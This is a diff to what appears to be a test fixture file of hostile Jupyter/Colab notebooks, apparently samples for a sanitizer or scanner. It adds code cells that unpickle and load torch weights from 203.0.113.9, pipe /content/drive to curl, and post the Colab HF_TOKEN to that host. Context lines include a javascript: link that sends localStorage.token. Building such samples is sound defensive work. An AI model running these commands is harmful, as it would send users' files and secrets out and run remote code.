@@ -47,6 +47,12 @@ _HOSTILE = {
     "markdown_cookie": notebook(_text(_SENDS)),
     "markdown_link": notebook(_text("[results](javascript:fetch('http://203.0.113.9/' + localStorage.token))")),
     "raw_cell": notebook(_text(f"<script>{_KERNEL}</script>", "raw")),
+    "pickle_from_number": notebook(_code("import pickle, requests\nm = pickle.loads(requests.get('http://203.0.113.9/m.pkl').content)")),
+    "weights_from_number": notebook(_code("import torch\ntorch.hub.load_state_dict_from_url('http://203.0.113.9/x.pt', weights_only=False)")),
+    "drive_sent": notebook(_code("!tar cz /content/drive | curl -T - http://203.0.113.9/")),
+    "secret_sent": notebook(
+        _code("from google.colab import userdata\nimport requests\nrequests.post('http://203.0.113.9', data=userdata.get('HF_TOKEN'))")
+    ),
     "attachment": notebook(
         _text("![x](attachment:x.svg)", attachments={"x.svg": {"image/svg+xml": base64.b64encode(_SVG.encode()).decode()}})
     ),
